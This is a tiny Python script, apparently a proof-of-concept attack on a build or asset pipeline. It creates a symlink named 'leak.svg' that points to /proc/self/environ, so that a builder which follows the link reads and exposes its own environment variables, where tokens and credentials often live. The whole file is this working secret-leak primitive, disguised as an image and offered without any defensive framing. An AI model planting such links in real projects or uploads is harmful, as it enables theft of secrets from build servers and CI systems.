import os

# Followed by the builder, this link reads the builder's own environment.
os.symlink("/proc/self/environ", "leak.svg")
print("left a link to /proc/self/environ")
